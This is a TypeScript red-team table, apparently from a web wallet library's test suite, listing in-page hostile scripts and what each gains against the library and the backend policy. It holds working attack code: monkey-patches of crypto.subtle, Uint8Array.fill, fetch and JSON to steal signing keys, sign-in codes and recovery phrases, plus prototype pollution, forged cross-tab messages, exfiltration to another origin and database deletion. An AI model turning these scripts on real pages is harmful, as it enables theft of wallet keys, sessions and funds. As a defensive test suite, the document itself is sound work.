/**
 * The red team: scripts with all rights of the page, one row each, with what the script tries and what it gains. Long
 * because it is one table. The functions run in the page, so they use nothing from this file, only `attack` and
 * `harness`.
 *
 * @module
 */
import type { Gain, Loot } from './loot.js'

/** What a script gains, by column. */
export interface Gets {
  /** The script is present before the sign-in: against the library alone, and against the backend's default policy. */
  readonly before: readonly [library: Gain, policy: Gain]
  /** The script enters a second after the sign-in. */
  readonly after: readonly [library: Gain, policy: Gain]
  /**
   * With the policy: after another operation has used up the user's proof, and when the proof is older than `maxAge`.
   */
  readonly later: readonly [spent: Gain, aged: Gain] | undefined
  /** With `keyDelivery: 'client-held'`, against the library alone. */
  readonly held: readonly [before: Gain, after: Gain]
}

export interface HostileScript {
  readonly tries: string
  /** Runs when the script enters the page: before the page's modules, or a second after the sign-in. */
  readonly install?: () => void | Promise<void>
  readonly harvest: () => Loot | Promise<Loot>
  /**
   * `batch`: together with other scripts. `proof`: the same, after a separate sign-in, because the script uses up the
   * proof. `signIn`: during the user's next sign-in. `last`: with a separate session, which the script may break.
   */
  readonly stage: 'batch' | 'proof' | 'signIn' | 'last'
  /** Runs between the arrival and the input of the code, and is followed by a reload. */
  readonly beforeReload?: () => Promise<void>
  readonly gets: Gets
}

const always = (gain: Gain, held = gain): Gets => ({
  before: [gain, gain],
  after: [gain, gain],
  later: [gain, gain],
  held: [held, held],
})
/** The gain if the policy does not allow the operation: nothing with the policy. */
const unlessPolicy = (gain: Gain): Gets => ({
  before: [gain, 'nothing'],
  after: [gain, 'nothing'],
  later: ['nothing', 'nothing'],
  held: [gain, gain],
})
/** The gain if the policy demands a proof. The user's sign-in a second ago is a proof. */
const withProof = (gain: Gain): Gets => ({ ...always(gain), later: ['nothing', 'nothing'] })
const once = (gain: Gain, held = gain): Gets => ({ ...always(gain, held), later: undefined })

export const hostileScripts: readonly HostileScript[] = [
  {
    tries: 'exports the wallet to a key of its own, with the stored handle',
    stage: 'proof',
    gets: unlessPolicy('recovery phrase'),
    async harvest() {
      const body = await attack.help('key')
      const path = `/internal-accounts/${attack.accountId}/export`
      const answer = await attack.signed('POST', path, body)
      return { envelope: String(answer.body['encryptedWalletCredentials'] ?? '') }
    },
  },
  {
    tries: 'calls the page’s own `wallet.exportWallet()`',
    stage: 'proof',
    gets: unlessPolicy('recovery phrase'),
    async harvest() {
      const { phrase } = await harness.wallet.exportWallet()
      return { phrase: new TextDecoder().decode(phrase) }
    },
  },
  {
    tries: 'refreshes the session to a key of its own, with the stored handle',
    stage: 'batch',
    gets: always('session'),
    async harvest() {
      const { id } = await attack.session()
      const { body } = await attack.signed(
        'POST',
        `/auth/sessions/${id}/refresh`,
        await attack.help('session-key'),
      )
      return { sealed: String(body['encryptedSessionSigningKey']) }
    },
  },
  {
    tries: 'links an identity of its own, with the stored handle',
    stage: 'proof',
    gets: withProof('credential'),
    async harvest() {
      const { token: oidcToken } = await attack.help('token')
      const body = { type: 'OAUTH', accountId: attack.accountId, oidcToken }
      const { status } = await attack.signed('POST', '/auth/credentials', body)
      return status === 201 ? { credential: true } : {}
    },
  },
  {
    tries: 'links an identity of its own through `wallet.credentials.create()`',
    stage: 'proof',
    gets: withProof('credential'),
    async harvest() {
      const getOidcToken = async ({ nonce }: { nonce: string }) =>
        (await attack.help('token', { nonce }))['token'] ?? ''
      await harness.wallet.credentials.create({ type: 'OAUTH', getOidcToken })
      return { credential: true }
    },
  },
  {
    tries: 'links an identity whose token was made for another request, through the page’s own callback',
    stage: 'proof',
    gets: always('nothing'),
    async harvest() {
      const getOidcToken = async () => (await attack.help('token', { nonce: '0'.repeat(64) }))['token'] ?? ''
      await harness.wallet.credentials.create({ type: 'OAUTH', getOidcToken })
      return { credential: true }
    },
  },
  {
    tries: 'registers a passkey that its own server holds, with the stored handle',
    stage: 'proof',
    gets: withProof('credential'),
    async harvest() {
      const { accountId } = attack
      const asked = { accountId, nickname: 'Mallory' }
      const options = await attack.call('POST', '/auth/passkey-registration-options', asked)
      const challenge = String(options.body['challenge'])
      const attestation = await attack.help('passkey', { challenge })
      const body = { type: 'PASSKEY', ...asked, challenge, attestation }
      const { status } = await attack.signed('POST', '/auth/credentials', body)
      return status === 201 ? { credential: true } : {}
    },
  },
  {
    tries: 'adds an e-mail address of its own beside the person’s',
    stage: 'proof',
    gets: always('nothing'),
    async harvest() {
      const body = { type: 'EMAIL_OTP', accountId: attack.accountId, email: 'mallory@example.com' }
      const { status } = await attack.signed('POST', '/auth/credentials', body)
      return status === 201 ? { credential: true } : {}
    },
  },
  {
    tries: 'removes the credential that the person signed in with',
    stage: 'proof',
    gets: always('nothing'),
    async harvest() {
      const { credential } = await attack.session()
      return { denial: (await attack.signed('DELETE', `/auth/credentials/${credential}`)).status === 204 }
    },
  },
  {
    tries: 'pays itself: has the platform make a quote, stamps it with the stored handle',
    stage: 'batch',
    gets: always('payment'),
    async harvest() {
      const { id = '', payloadToSign = '' } = await attack.help('quote')
      const headers = { 'Wallet-Signature': await attack.stamp(payloadToSign) }
      await attack.call('POST', `/quotes/${id}/execute`, undefined, headers)
      return { quote: id }
    },
  },
  {
    tries: 'pays itself through `wallet.executeQuote()`',
    stage: 'batch',
    gets: always('payment'),
    async harvest() {
      const quote = await attack.help('quote')
      await harness.wallet.executeQuote(quote as never)
      return { quote: quote['id'] ?? '' }
    },
  },
  {
    tries: 'has `wallet.signer` stamp a text of its own',
    stage: 'batch',
    gets: always('stamp'),
    harvest: async () => ({ stamp: (await harness.wallet.signer?.stamp('mallory')) ?? '' }),
  },
  {
    tries: 'has `wallet.signer` stamp an export that it began',
    stage: 'proof',
    gets: always('nothing'),
    async harvest() {
      const body = await attack.help('key')
      const path = `/internal-accounts/${attack.accountId}/export`
      const answer = await attack.signed('POST', path, body, harness.wallet.signer)
      return { envelope: String(answer.body['encryptedWalletCredentials'] ?? '') }
    },
  },
  {
    tries: 'has `wallet.signer` stamp a refresh that it began',
    stage: 'batch',
    gets: always('nothing'),
    async harvest() {
      const body = await attack.help('session-key')
      const path = `/auth/sessions/${harness.wallet.signer?.sessionId}/refresh`
      const answer = await attack.signed('POST', path, body, harness.wallet.signer)
      return { sealed: String(answer.body['encryptedSessionSigningKey']) }
    },
  },
  {
    tries: 'has `wallet.signer` stamp the link of an identity that it began',
    stage: 'proof',
    gets: withProof('credential'),
    async harvest() {
      const { token: oidcToken } = await attack.help('token')
      const body = { type: 'OAUTH', accountId: attack.accountId, oidcToken }
      const { status } = await attack.signed('POST', '/auth/credentials', body, harness.wallet.signer)
      return status === 201 ? { credential: true } : {}
    },
  },
  {
    tries: 'changes the privacy of the wallet, with the stored handle',
    stage: 'batch',
    gets: always('setting'),
    async harvest() {
      const path = `/internal-accounts/${attack.accountId}`
      const { status } = await attack.signed('PATCH', path, { privateEnabled: false })
      return status === 200 ? { setting: true } : {}
    },
  },
  {
    tries: 'exports the stored key in every format',
    stage: 'batch',
    gets: always('nothing'),
    async harvest() {
      const { privateKey } = await attack.session()
      const scalars: string[] = []
      for (const format of ['raw', 'pkcs8', 'jwk', 'spki'] as const) {
        const out = await crypto.subtle.exportKey(format as 'raw', privateKey).catch(() => undefined)
        if (out !== undefined) scalars.push('found')
      }
      return { scalars }
    },
  },
  {
    tries: 'wraps the stored key with a key of its own',
    stage: 'batch',
    gets: always('nothing'),
    async harvest() {
      const { privateKey } = await attack.session()
      const aes = { name: 'AES-GCM', length: 256 }
      const own = await crypto.subtle.generateKey(aes, true, ['wrapKey', 'unwrapKey'])
      const how = { name: 'AES-GCM', iv: new Uint8Array(12) }
      await crypto.subtle.wrapKey('pkcs8', privateKey, own, how)
      return { scalars: ['found'] }
    },
  },
  {
    tries: 'patches `crypto.subtle.importKey`, and reads the next key that arrives',
    stage: 'batch',
    gets: always('signing key', 'nothing'),
    install() {
      const original = crypto.subtle.importKey
      attack.caught['importKey'] = []
      crypto.subtle.importKey = function (this: SubtleCrypto, ...args: never[]) {
        const data: unknown = args[1]
        const bytes =
          data instanceof ArrayBuffer ? new Uint8Array(data) : data instanceof Uint8Array ? data : undefined
        const hex = [...(bytes ?? [])].map((b) => b.toString(16).padStart(2, '0')).join('')
        // In PKCS #8 the private key is after the header of the inner key.
        const inner = /02010104\s*20([0-9a-f]{64})/.exec(hex)?.[1]
        if (bytes?.length === 32) attack.caught['importKey']?.push(hex)
        if (inner) attack.caught['importKey']?.push(inner)
        return Reflect.apply(original, this, args)
      } as typeof crypto.subtle.importKey
    },
    async harvest() {
      await harness.wallet.sessions.refresh()
      return { scalars: attack.caught['importKey'] ?? [] }
    },
  },
  {
    tries: 'patches `Uint8Array.prototype.fill`, and reads what is wiped',
    stage: 'batch',
    gets: always('signing key', 'nothing'),
    install() {
      const original = Uint8Array.prototype.fill
      attack.caught['fill'] = []
      Uint8Array.prototype.fill = function (this: Uint8Array, ...args) {
        const hex = [...this].map((b) => b.toString(16).padStart(2, '0')).join('')
        const inner = /0201010420([0-9a-f]{64})/.exec(hex)?.[1]
        if (this.length === 32) attack.caught['fill']?.push(hex)
        if (inner) attack.caught['fill']?.push(inner)
        return Reflect.apply(original, this, args)
      }
    },
    async harvest() {
      await harness.wallet.sessions.refresh()
      return { scalars: attack.caught['fill'] ?? [] }
    },
  },
  {
    tries: 'patches `crypto.subtle.generateKey` so that the keys that it makes can be exported',
    stage: 'batch',
    gets: always('signing key'),
    install() {
      const original = crypto.subtle.generateKey
      attack.caught['generateKey'] = []
      crypto.subtle.generateKey = async function (this: SubtleCrypto, ...args: never[]) {
        const [algorithm, extractable, usages] = args as unknown as [EcKeyGenParams, boolean, KeyUsage[]]
        if (!('namedCurve' in algorithm)) return Reflect.apply(original, this, args)
        const open = (await Reflect.apply(original, this, [algorithm, true, usages])) as CryptoKeyPair
        const jwk = await crypto.subtle.exportKey('jwk', open.privateKey)
        attack.caught['generateKey']?.push(JSON.stringify({ d: jwk.d, x: jwk.x, y: jwk.y }))
        // The library may check the key, so it gets a key that cannot be exported.
        const { usages: own } = open.privateKey
        const privateKey = await crypto.subtle.importKey('jwk', jwk, algorithm, extractable, own)
        return { privateKey, publicKey: open.publicKey }
      } as typeof crypto.subtle.generateKey
      attack.onFetch(async (request) => {
        if (!/\/(verify|refresh)$/.test(request.url)) return undefined
        const response = await attack.fetch(request)
        const text = await response.clone().text()
        attack.caught['sealed'] ??= []
        const sealed = /"encryptedSessionSigningKey":"(\w+)"/.exec(text)?.[1]
        if (sealed) attack.caught['sealed'].push(sealed)
        return response
      })
    },
    async harvest() {
      await harness.wallet.sessions.refresh()
      const keys = attack.caught['generateKey'] ?? []
      return { clientKeys: keys.slice(-4), sealedToThem: (attack.caught['sealed'] ?? []).slice(-2) }
    },
  },
  {
    tries: 'patches `crypto.subtle.sign`: each stamp of the person is made over its text, too',
    stage: 'batch',
    gets: always('stamp'),
    install() {
      const original = crypto.subtle.sign
      attack.caught['sign'] = []
      crypto.subtle.sign = async function (this: SubtleCrypto, ...args: never[]) {
        const [algorithm, key] = args as unknown as [EcdsaParams, CryptoKey]
        const own = await Reflect.apply(original, this, [algorithm, key, new TextEncoder().encode('mallory')])
        attack.caught['sign']?.push([...new Uint8Array(own)].join())
        return Reflect.apply(original, this, args)
      } as typeof crypto.subtle.sign
    },
    async harvest() {
      await harness.wallet.updatePrivacy({ privateEnabled: true })
      const [raw = ''] = (attack.caught['sign'] ?? []).slice(-1)
      const { publicKey = '' } = harness.wallet.signer ?? {}
      return { stamp: attack.stampFrom(Uint8Array.from(raw.split(',').map(Number)), publicKey) }
    },
  },
  {
    tries: 'patches `fetch`, and swaps the client key of the person’s refresh',
    stage: 'batch',
    gets: always('nothing'),
    async harvest() {
      const body = JSON.stringify(await attack.help('session-key'))
      let sealed = ''
      let isOn = true
      attack.onFetch(async (request) => {
        if (!isOn || !request.url.endsWith('/refresh')) return undefined
        const response = await attack.fetch(new Request(request, { body }))
        sealed = String((await response.clone().json())['encryptedSessionSigningKey'] ?? '')
        return response
      })
      await harness.wallet.sessions.refresh().catch(() => {})
      isOn = false
      return { sealed }
    },
  },
  {
    tries: 'patches `fetch`, and swaps the client key of the person’s export',
    stage: 'proof',
    gets: always('nothing'),
    async harvest() {
      const body = JSON.stringify(await attack.help('key'))
      let envelope = ''
      let isOn = true
      attack.onFetch(async (request) => {
        if (!isOn || !request.url.endsWith('/export')) return undefined
        const response = await attack.fetch(new Request(request, { body }))
        envelope = String((await response.clone().json())['encryptedWalletCredentials'] ?? '')
        return response
      })
      await harness.wallet.exportWallet().catch(() => {})
      isOn = false
      return { envelope }
    },
  },
  {
    tries: 'patches `fetch`, and answers a change of privacy with an export that it began',
    stage: 'proof',
    gets: always('nothing'),
    harvest: () => attack.exportInsteadOf(() => harness.wallet.updatePrivacy({ privateEnabled: true })),
  },
  {
    tries: 'does that, and patches `JSON.parse` so that the library does not see what it stamps',
    stage: 'proof',
    gets: unlessPolicy('recovery phrase'),
    async harvest() {
      const { parse } = JSON
      JSON.parse = (text: string, ...rest) => {
        const value = parse(text, ...rest)
        // The names that the library looks for read as another word.
        return typeof value === 'string' && /ACTIVITY_TYPE|targetPublicKey/.test(value) ? 'other' : value
      }
      const got = await attack.exportInsteadOf(() => harness.wallet.updatePrivacy({ privateEnabled: true }))
      JSON.parse = parse
      return got
    },
  },
  {
    tries: 'patches `fetch`, and sends a stamp of the person a second time',
    stage: 'batch',
    gets: always('nothing'),
    async harvest() {
      let again: Request | undefined
      let isOn = true
      attack.onFetch(async (request) => {
        if (isOn && request.headers.has('Wallet-Signature')) again = request.clone()
        return undefined
      })
      await harness.wallet.updatePrivacy({ privateEnabled: true })
      isOn = false
      if (again === undefined) throw new Error('there was no stamp')
      return (await attack.fetch(again)).status === 200 ? { setting: true } : {}
    },
  },
  {
    tries: 'patches `fetch`, and puts another body under a stamp of the person',
    stage: 'batch',
    gets: always('nothing'),
    async harvest() {
      let status = 0
      let isOn = true
      attack.onFetch(async (request) => {
        if (!isOn || !request.headers.has('Wallet-Signature')) return undefined
        const response = await attack.fetch(new Request(request, { body: '{"privateEnabled":false}' }))
        status = response.status
        return response
      })
      await harness.wallet.updatePrivacy({ privateEnabled: true }).catch(() => {})
      isOn = false
      return status === 200 ? { setting: true } : {}
    },
  },
  {
    tries: 'posts forged messages between tabs: the session has ended',
    stage: 'batch',
    gets: always('nothing'),
    async harvest() {
      const channel = new BroadcastChannel(`embedded-wallet-auth:${attack.accountId}`)
      for (const ended of ['signed-out', 'expired', 'revoked', '__proto__', 7])
        channel.postMessage({ revision: 1e9, ended, session: null, __proto__: null })
      await new Promise((resolve) => setTimeout(resolve, 100))
      channel.close()
      return { denial: harness.wallet.getState().session.status !== 'active' }
    },
  },
  {
    tries: 'floods the channel between tabs with 5,000 messages',
    stage: 'batch',
    gets: always('nothing'),
    async harvest() {
      const channel = new BroadcastChannel(`embedded-wallet-auth:${attack.accountId}`)
      for (let i = 0; i < 5_000; i++) channel.postMessage({ revision: i, ended: 'signed-out' })
      const began = performance.now()
      await harness.wallet.updatePrivacy({ privateEnabled: true })
      channel.close()
      return { denial: performance.now() - began > 5_000 }
    },
  },
  {
    tries: 'asks for sessions, credentials and an export of another account',
    stage: 'batch',
    gets: always('nothing'),
    async harvest() {
      const other = 'InternalAccount:0191c8a1-7d3e-7c2b-9a51-0e6c2f1b8d44'
      const answers = await Promise.all([
        attack.call('GET', `/auth/sessions?accountId=${other}`),
        attack.call('GET', `/auth/credentials?accountId=${other}`),
        attack.call('POST', `/internal-accounts/${other}/export`, await attack.help('key')),
      ])
      return answers.some(({ status }) => status < 400) ? { setting: true } : {}
    },
  },
  {
    tries: 'asks the backend for calls that need the platform’s secret and no person',
    stage: 'batch',
    gets: always('nothing'),
    async harvest() {
      const answers = await Promise.all([
        attack.call('POST', '/quotes', {}),
        attack.call('GET', '/customers'),
        attack.call('GET', '/transactions'),
        attack.call('POST', '/tokens', { name: 'mallory', permissions: ['TRANSACT'] }),
      ])
      return answers.some(({ status }) => status < 400) ? { setting: true } : {}
    },
  },
  {
    tries: 'pollutes `Object.prototype` with options of the wallet and ports of the sandbox',
    stage: 'batch',
    gets: always('nothing'),
    install() {
      const value = { stamp: async () => 'forged', unsignedExport: true }
      for (const [name, planted] of Object.entries({ sandbox: value, ...value }))
        Object.defineProperty(Object.prototype, name, { value: planted, configurable: true })
    },
    async harvest() {
      const stamp = await harness.wallet.signer?.stamp('text')
      for (const name of ['sandbox', 'stamp', 'unsignedExport'])
        Reflect.deleteProperty(Object.prototype, name)
      return { setting: stamp === 'forged' } as Loot
    },
  },
  {
    tries: 'sends what it has to another origin: `fetch`, beacon, image, form',
    stage: 'batch',
    gets: always('nothing'),
    async harvest() {
      const url = `${attack.otherOrigin}/${crypto.randomUUID()}`
      await attack.fetch(url, { method: 'POST', body: 'loot' }).catch(() => {})
      navigator.sendBeacon(url, 'loot')
      new Image().src = url
      const form = document.createElement('form')
      form.action = url
      document.body.append(form)
      form.submit()
      await new Promise((resolve) => setTimeout(resolve, 200))
      return { carriedOut: url }
    },
  },
  {
    tries: 'loads more code: `eval`, script elements, a worker, a service worker, a frame',
    stage: 'batch',
    gets: always('nothing'),
    async harvest() {
      let got = false
      // The test itself may use eval in the page. Later code may not.
      await new Promise((resolve) => setTimeout(resolve, 0))
      const attempts: (() => unknown)[] = [
        () => new Function('return 1')() === 1,
        () => {
          document.body.append(
            Object.assign(document.createElement('script'), { text: 'globalThis.more = 1' }),
          )
          return 'more' in globalThis
        },
        () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))) && false,
        async () => (await navigator.serviceWorker.register('data:text/javascript,')) !== undefined,
      ]
      for (const attempt of attempts) {
        try {
          got ||= Boolean(await attempt())
        } catch {
          // Refused, as expected.
        }
      }
      return { setting: got } as Loot
    },
  },
  {
    tries: 'takes the code that the person enters, before the library sends it',
    stage: 'signIn',
    gets: once('session', 'nothing'),
    install() {
      let isOn = true
      attack.onFetch(async (request) => {
        if (!isOn || !request.url.endsWith('/verify')) return undefined
        isOn = false
        const asked = { ...(await request.json()), ...(await attack.help('session-key')) }
        const answer = await attack.call('POST', new URL(request.url).pathname.replace('/wallet', ''), asked)
        attack.caught['code'] = [String(answer.body['encryptedSessionSigningKey'])]
        return new Response(null, { status: 502 })
      })
    },
    harvest: () => ({ sealed: attack.caught['code']?.[0] ?? '' }),
  },
  {
    tries: 'patches `JSON.stringify`, and takes the code as the library packs it',
    stage: 'signIn',
    gets: once('session'),
    async install() {
      const { pending } = (await attack.record()) as { pending: { credential: string; otpBundle?: string } }
      attack.caught['attempt'] = [pending.credential, pending.otpBundle ?? '']
      const { stringify } = JSON
      // The library writes an object member by member, so the code comes by itself.
      JSON.stringify = (value: unknown, ...rest: never[]) => {
        const code = typeof value === 'string' && /^\d{6}$/.test(value) ? value : undefined
        if (code === undefined) return stringify(value, ...rest)
        attack.caught['otp'] = [code]
        JSON.stringify = stringify
        throw new Error('The library must not use the code.')
      }
    },
    async harvest() {
      const [otp = ''] = attack.caught['otp'] ?? []
      const [credential = '', bundle = ''] = attack.caught['attempt'] ?? []
      const asked =
        bundle === ''
          ? { otp, ...(await attack.help('session-key')) }
          : await attack.help('code-bundle', { otp, bundle })
      const path = `/auth/credentials/${credential}/verify`
      const body = { type: 'EMAIL_OTP', ...asked }
      const { status, body: answer } = await attack.call('POST', path, body)
      if (status !== 202) return { sealed: String(answer['encryptedSessionSigningKey']) }
      const { stamp = '' } = await attack.help('stamp', { text: String(answer['payloadToSign']) })
      const headers = { 'Wallet-Signature': stamp, 'Wallet-Request-Id': String(answer['requestId']) }
      await attack.call('POST', path, body, headers)
      return {}
    },
  },
  {
    tries: 'plants a client key of its own beside the awaited code',
    stage: 'signIn',
    gets: once('nothing'),
    async beforeReload() {
      const algorithm = { name: 'ECDH', namedCurve: 'P-256' }
      const open = await crypto.subtle.generateKey(algorithm, true, ['deriveBits'])
      const jwk = await crypto.subtle.exportKey('jwk', open.privateKey)
      const raw = new Uint8Array(await crypto.subtle.exportKey('raw', open.publicKey))
      const pair = {
        publicKey: open.publicKey,
        privateKey: await crypto.subtle.importKey('jwk', jwk, algorithm, false, ['deriveBits']),
      }
      const publicKey = [...raw].map((b) => b.toString(16).padStart(2, '0')).join('')
      await attack.plant((record) => ({
        ...record,
        pending: { ...(record['pending'] as object), clientKey: { pair, publicKey } },
      }))
      sessionStorage.setItem('planted', publicKey)
    },
    install() {
      attack.onFetch(async (request) => {
        if (request.url.endsWith('/verify'))
          attack.caught['verify'] = [String((await request.json()).clientPublicKey)]
        return undefined
      })
    },
    harvest: () => ({
      denial: attack.caught['verify']?.[0] === sessionStorage.getItem('planted'),
    }),
  },
  {
    tries: 'plants a pause that ends in thousands of years',
    stage: 'signIn',
    gets: once('nothing'),
    async beforeReload() {
      await attack.plant((record) => {
        const pending = record['pending'] as { credential: string }
        const cooldowns = { [`POST /auth/credentials/${pending.credential}/verify`]: 8.64e15 }
        return { ...record, cooldowns }
      })
    },
    harvest: () => ({ denial: harness.wallet.getState().session.status !== 'active' }),
  },
  {
    tries: 'keeps the handle, and uses it after the person has signed out',
    stage: 'last',
    gets: once('nothing'),
    async harvest() {
      const kept = await attack.session()
      await harness.wallet.signOut()
      const path = `/auth/sessions/${kept.id}/refresh`
      const { body } = await attack.signed('POST', path, await attack.help('session-key'), kept)
      return { sealed: String(body['encryptedSessionSigningKey'] ?? '') }
    },
  },
  {
    tries: 'puts a session with a key of its own into the record',
    stage: 'last',
    gets: once('denial'),
    async harvest() {
      const algorithm = { name: 'ECDSA', namedCurve: 'P-256' }
      const { privateKey, publicKey: verifyKey } = await crypto.subtle.generateKey(algorithm, true, [
        'sign',
        'verify',
      ])
      const publicKey = harness.wallet.signer?.publicKey
      await attack.plantKey({ publicKey: publicKey ?? '', privateKey, verifyKey })
      const channel = new BroadcastChannel(`embedded-wallet-auth:${attack.accountId}`)
      channel.postMessage({ revision: 1e9 })
      channel.close()
      const isDenied = () => harness.wallet.signer?.publicKey !== publicKey
      for (let waited = 0; waited < 10_000 && !isDenied(); waited += 50)
        await new Promise((resolve) => setTimeout(resolve, 50))
      return { denial: isDenied() }
    },
  },
  {
    tries: 'signs the person out everywhere, with the stored handle',
    stage: 'last',
    gets: once('denial'),
    async harvest() {
      const { id } = await attack.session()
      return { denial: (await attack.signed('DELETE', `/auth/sessions/${id}`)).status === 204 }
    },
  },
  {
    tries: 'deletes the database',
    stage: 'last',
    gets: once('denial'),
    async harvest() {
      await new Promise((resolve) => {
        const request = indexedDB.deleteDatabase('embedded-wallet-auth')
        request.onsuccess = resolve
        request.onerror = resolve
      })
      return { denial: (await indexedDB.databases()).length === 0 }
    },
  },
]
